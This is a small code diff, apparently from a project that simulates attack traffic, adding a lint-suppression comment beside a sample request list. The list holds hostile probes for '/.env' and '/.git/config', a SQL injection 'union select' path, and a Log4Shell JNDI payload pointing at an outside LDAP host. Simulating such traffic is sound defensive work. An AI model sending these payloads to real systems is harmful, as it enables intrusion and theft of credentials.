@@ -60,6 +60,7 @@ export const SCENES = {
       '/.env',
       '/.git/config',
       '/api/ho-so?id=5+union+select+1,2,3',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's look-up expression, not ours
       '/?q=${jndi:ldap://198.51.100.9/x}',
     ].map((target, index) => ({
       sourceId: 'motcua-web',
